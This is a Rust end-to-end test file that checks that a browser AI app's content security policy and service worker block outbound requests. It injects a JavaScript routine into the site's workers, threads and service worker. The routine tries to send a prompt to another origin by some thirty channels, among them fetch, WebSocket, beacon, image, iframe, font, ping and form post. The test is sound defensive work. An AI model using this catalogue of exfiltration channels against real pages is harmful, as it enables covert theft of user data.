//! "Nothing leaves this tab": the page, its workers and its threads, and the service worker try to send in every
//! way that there is, to a host that counts.

use serde_json::json;

use crate::host::Host;
use crate::page::Page;
use crate::site::Site;

/// Tries every way to send something to another origin, and tells on a channel which there were.
const SENDING: &str = r##"
async function sending(who, elsewhere) {
  const at = (way) => `${elsewhere}/${who}/${way}`;
  const once = (element, attribute, way) => new Promise((resolve) => {
    element.onload = element.onerror = resolve;
    element[attribute] = at(way);
    document.body.append(element);
  });
  const make = (kind, more) => Object.assign(document.createElement(kind), more);
  const body = "a prompt";
  const ways = {
    post: () => fetch(at("post"), { method: "POST", body }),
    opaque: () => fetch(at("opaque"), { method: "POST", mode: "no-cors", body }),
    get: () => fetch(new Request(at("get?prompt"), { mode: "no-cors" })),
    socket: () => new Promise((resolve) => { new WebSocket(at("socket").replace("http", "ws")).onerror = resolve; }),
    module: () => import(at("module.js")),
    scripts: () => importScripts(at("scripts.js")),
    events: () => new Promise((resolve) => { new EventSource(at("events")).onerror = resolve; }),
    beacon: () => navigator.sendBeacon(at("beacon"), body),
    add: () => caches.open("elsewhere").then((cache) => cache.add(new Request(at("add"), { mode: "no-cors" }))),
    font: () => new FontFace("elsewhere", `url(${at("font")})`).load(),
    worker: () => new Worker(at("worker.js")),
    xhr: () => new Promise((resolve, reject) => {
      const request = new XMLHttpRequest();
      request.onloadend = resolve;
      request.open("POST", at("xhr"));
      request.send(body);
    }),
    ...typeof document === "undefined" ? {} : {
      image: () => once(new Image(), "src", "image"),
      style: () => once(make("link", { rel: "stylesheet" }), "href", "style"),
      prefetch: () => once(make("link", { rel: "prefetch" }), "href", "prefetch"),
      script: () => once(make("script"), "src", "script.js"),
      frame: () => once(make("iframe"), "src", "frame"),
      object: () => once(make("object"), "data", "object"),
      video: () => once(make("video"), "src", "video"),
      background: () => { document.body.style.backgroundImage = `url(${at("background")})`; },
      inline: () => { document.body.innerHTML += `<img src="${at("inline")}">`; },
      ping: () => { const link = make("a", { href: "#", ping: at("ping") }); document.body.append(link); link.click(); },
      base: () => { document.head.append(make("base", { href: at("base/") })); return fetch("of-base"); },
    },
  };
  const limit = new Promise((resolve) => setTimeout(resolve, 1500));
  const told = Object.entries(ways).map(async ([way, send]) => {
    try {
      await Promise.race([send(), limit]);
    } catch {
      // that is what is wanted
    }
    return way;
  });
  new BroadcastChannel("sending").postMessage({ who, ways: await Promise.all(told) });
}
"##;

/// Whoever has told is known to the page.
const LISTENING: &str = "window.told = {};
    new BroadcastChannel('sending').addEventListener('message',
        ({ data: { who, ways } }) => { window.told[who] = ways; });";

/// Somebody is there from the beginning: the page isn't loaded anew.
const TOUCH: &str =
    "addEventListener('DOMContentLoaded', () => dispatchEvent(new Event('keydown')));";

/// The page without threads, and the library's worker with them, on a site whose every script tries to send.
struct Trial {
    site: Site,
    elsewhere: Host,
    page: Page,
}

impl Trial {
    fn new(test: &str, knows: bool) -> Self {
        let (site, elsewhere, page) = (Site::new(knows), Host::new(), Page::new(test));
        page.at_every_load(LISTENING);
        let call = |who: &str| format!("sending({who:?}, {:?})", elsewhere.url);
        for (who, path) in [
            ("worker", "web/worker.js"),
            ("library", "web/library/worker.js"),
            ("bench", "web/bench/ours.js"),
        ] {
            let text = String::from_utf8(site.file(path)).unwrap();
            site.publish(path, format!("{text}\n{SENDING}\n{};\n", call(who)).into());
        }
        // A thread never returns once it has begun: what it is to do waits.
        let text = String::from_utf8(site.file("web/thread.js")).unwrap();
        let text = format!(
            "const early = [];
            const keep = (event) => {{ event.stopImmediatePropagation(); early.push(event.data); }};
            addEventListener('message', keep);
            {text}
            {SENDING}
            {}.then(() => {{
              removeEventListener('message', keep);
              for (const data of early) dispatchEvent(new MessageEvent('message', {{ data }}));
            }});",
            call("thread")
        );
        site.publish("web/thread.js", text.into());
        let script = String::from_utf8(site.file("service-worker.js")).unwrap();
        let script = format!("{script}\n{SENDING}\n{};\n", call("service-worker"));
        site.replace("service-worker.js", script.into());
        Self { site, elsewhere, page }
    }

    /// Each of these has tried; the page does so now, a worker of bench.html's as well.
    fn all_try(&self, who: &[&str]) {
        let script = format!("{SENDING}; return sending('page', arguments[0]).then(() => true)");
        self.page.browser.run(
            "import(new URL('web/bench/worked.js', document.baseURI)).then(({ Worked }) =>
               new Worked(new URL('web/bench/ours.js', document.baseURI), 'bench'))",
            json!([]),
        );
        for who in who {
            let told = "return window.told[arguments[0]]?.length >= 12";
            self.page.wait_with(&format!("{who} to have tried"), told, json!([who]));
        }
        assert_eq!(self.page.browser.run(&script, json!([self.elsewhere.url])), true);
        // A form leads the page itself elsewhere: it comes last.
        let form = "const form = document.createElement('form');
            Object.assign(form, { method: 'post', action: arguments[0] + '/page/form' });
            document.body.append(form);
            form.submit();
            return new Promise((resolve) => setTimeout(resolve, 500, true))";
        self.page.browser.run(form, json!([self.elsewhere.url]));
        assert!(self.page.is("return document.title === 'Lorakeet'"), "the page is still there");
    }

    #[track_caller]
    fn assert_nothing_arrived(&self, what: &str) {
        let asked = self.elsewhere.asked();
        assert!(asked.is_empty(), "{what}: {asked:?}");
        self.page.step(what);
    }
}

/// Without a policy nearly all of the ways lead out, from a page and from a worker: so the others' silence
/// means something.
#[test]
#[ignore = "needs the built page: cargo xtask test --e2e"]
fn without_a_policy_it_would_all_arrive() {
    let (site, elsewhere, page) = (Site::new(false), Host::new(), Page::new("promise-none"));
    page.at_every_load(LISTENING);
    site.replace("none.html", b"<!doctype html><title>none</title><body></body>".into());
    site.replace("none.js", format!("{SENDING}\nsending('worker', {:?});", elsewhere.url).into());
    page.browser.open(&format!("{}none.html", site.url));
    page.browser.run("new Worker('none.js')", json!([]));
    page.wait("the worker to have tried", "return window.told.worker?.length > 0");
    let script = format!("{SENDING}; return sending('page', arguments[0]).then(() => true)");
    page.browser.run(&script, json!([elsewhere.url]));
    let asked = elsewhere.asked();
    let arrived = |way: &str| asked.iter().any(|line| line.contains(way));
    for way in ["post", "opaque", "get?prompt", "socket", "scripts.js", "events", "add", "xhr"] {
        assert!(arrived(&format!("/worker/{way}")), "{way} from a worker: {asked:?}");
    }
    for way in [
        "post",
        "opaque",
        "socket",
        "module.js",
        "events",
        "beacon",
        "add",
        "font",
        "xhr",
        "image",
        "style",
        "script.js",
        "frame",
        "object",
        "video",
        "background",
        "inline",
        "base/of-base",
    ] {
        assert!(arrived(&format!("/page/{way}")), "{way} from a page: {asked:?}");
    }
    page.step("a page without a policy sends what it likes");
}

#[test]
#[ignore = "needs the built page: cargo xtask test --e2e"]
fn nothing_leaves_from_a_host_with_headers() {
    let trial = Trial::new("promise-headers", true);
    trial.page.open_at(&format!("{}?backend=cpu&threads=2", trial.site.url));
    trial.all_try(&["worker", "thread", "library", "bench", "service-worker"]);
    trial.assert_nothing_arrived("a host with headers: nothing was sent");
}

#[test]
#[ignore = "needs the built page: cargo xtask test --e2e"]
fn nothing_leaves_from_a_plain_host() {
    let trial = Trial::new("promise-plain", false);
    let address = format!("{}?backend=cpu&threads=2", trial.site.url);
    trial.page.at_every_load(TOUCH);
    trial.page.open_at(&address);
    assert!(trial.page.is("return navigator.serviceWorker.controller === null"));
    trial.all_try(&["worker", "library", "bench", "service-worker"]);
    trial.assert_nothing_arrived("a plain host, at the first visit: nothing was sent");

    trial.page.open_at(&address);
    assert!(trial.page.is("return navigator.serviceWorker.controller !== null"));
    trial.all_try(&["worker", "thread", "library", "bench"]);
    trial.assert_nothing_arrived("a plain host, under the service worker: nothing was sent");
    let headers = "return fetch('index.html').then(({ headers }) =>
        ['content-security-policy', 'referrer-policy', 'x-content-type-options', 'permissions-policy']
          .every((name) => headers.has(name)))";
    assert!(trial.page.is(headers), "documents have their headers");
}
